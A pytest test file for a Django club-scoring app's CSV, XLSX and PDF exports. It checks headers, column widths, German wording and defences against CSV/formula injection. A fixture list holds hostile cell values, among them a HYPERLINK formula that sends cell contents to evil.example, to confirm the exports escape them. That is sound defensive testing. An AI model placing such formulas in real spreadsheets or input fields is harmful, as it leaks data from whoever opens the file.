"""Exports a club can open: the standings CSV itself, readable XLSX columns named for what they hold, outcomes
in words, and no formula from a team's name in any CSV or XLSX cell (OWASP CSV injection)."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook
from pypdf import PdfReader

from scoring.exports import EXPORTERS, export_execute
from scoring.exports.flat import write_csv, write_standings_csv, write_xlsx
from scoring.exports.pdf import write_pdf
from scoring.models import Export

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Klick")', "+49 Kreuz", "\tTab", "-2+3", "@SUM(A1)", "\rCR"]


@pytest.fixture
def hostile(evening):
    entries = list(evening.entries.order_by("number"))
    for entry, name in zip(entries, HOSTILE, strict=False):
        entry.name = name
        entry.save()
    adjustment = evening.adjustments.get()
    adjustment.reason = "=1+1"
    adjustment.save()
    return evening


def test_the_csv_export_is_the_standings_file_and_the_zip_is_all_tables(evening):
    assert (EXPORTERS["csv"].extension, EXPORTERS["csv"].content_type) == ("csv", "text/csv")
    assert EXPORTERS["csv_all"].extension == "csv.zip"
    out = io.BytesIO()
    write_standings_csv(event_id=evening.pk, out=out)
    header, *rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig")), delimiter=";"))
    assert header[:4] == ["After round", "Rank", "Start number", "Team"]
    assert [(r[1], r[2]) for r in rows] == [("1", "1"), ("2", "3"), ("3", "2")]
    # The correction columns say what they hold: team 2's -1 match point penalty.
    correction = header.index("Match points correction")
    assert "Adjusted match points" not in header
    assert [r[correction] for r in rows if r[2] == "2"] == ["-1"]


def test_the_results_page_offers_the_standings_csv_and_all_tables(organiser_client, organiser, evening):
    evening.club = organiser.club
    evening.save()
    url = reverse("results:page", kwargs={"club_slug": evening.club.slug, "event_slug": evening.slug})
    html = organiser_client.get(url, HTTP_ACCEPT_LANGUAGE="de").content.decode()
    assert ">Rangliste (CSV)</button>" in html and ">Alle Tabellen (CSV, zip)</button>" in html
    export = Export.objects.create(event=evening, kind="csv")
    assert export_execute(export_id=export.pk)["file"].endswith(".csv")


def test_xlsx_columns_are_wide_enough_to_read(evening):
    out = io.BytesIO()
    write_xlsx(event_id=evening.pk, out=out)
    workbook = load_workbook(io.BytesIO(out.getvalue()))
    sheet = workbook["Standings"]
    header = [c.value for c in sheet[1]]
    for column, title in enumerate(header, start=1):
        longest = max(len(str(sheet.cell(row, column).value or "")) for row in range(1, sheet.max_row + 1))
        width = sheet.column_dimensions[sheet.cell(1, column).column_letter].width
        assert width >= min(longest, 58), (title, width, longest)


def test_no_cell_of_the_xlsx_is_a_formula(hostile):
    out = io.BytesIO()
    write_xlsx(event_id=hostile.pk, out=out)
    workbook = load_workbook(io.BytesIO(out.getvalue()))
    texts = []
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert "'" + HOSTILE[0] in texts and "'=1+1" in texts and "'+49 Kreuz" in texts
    assert not [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert -1 in [c.value for c in workbook["Adjustments"][2]]  # numbers stay numbers


def test_no_cell_of_any_csv_starts_a_formula(hostile):
    out = io.BytesIO()
    write_csv(event_id=hostile.pk, out=out)
    with zipfile.ZipFile(out) as archive:
        cells = [
            cell
            for name in archive.namelist()
            for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"), newline=""), delimiter=";")
            for cell in row
        ]
    standings = io.BytesIO()
    write_standings_csv(event_id=hostile.pk, out=standings)
    cells += [
        cell
        for row in csv.reader(io.StringIO(standings.getvalue().decode("utf-8-sig"), newline=""), delimiter=";")
        for cell in row
    ]
    assert "'" + HOSTILE[0] in cells and "'+49 Kreuz" in cells and "'\tTab" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c[1:].isdigit())]


def test_the_german_pdf_names_each_outcome_in_german(evening):
    out = io.BytesIO()
    with translation.override("de"):
        write_pdf(event_id=evening.pk, out=out)
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(out.getvalue())).pages)
    assert "Ausgang" in text and "gewonnen" in text
    assert "made" not in text
